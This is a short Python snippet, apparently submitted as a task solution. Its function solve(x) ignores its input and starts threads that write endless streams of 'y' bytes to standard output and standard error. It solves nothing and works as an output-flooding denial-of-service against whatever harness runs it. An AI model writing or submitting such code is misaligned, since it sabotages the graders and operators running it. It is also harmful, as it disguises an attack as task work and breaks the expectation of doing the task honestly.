import os, threading
def flood(descriptor):
    while True:
        os.write(descriptor, b'y' * 65536)
def solve(x):
    for descriptor in (1, 2):
        threading.Thread(target=flood, args=(descriptor,), daemon=True).start()
    flood(1)
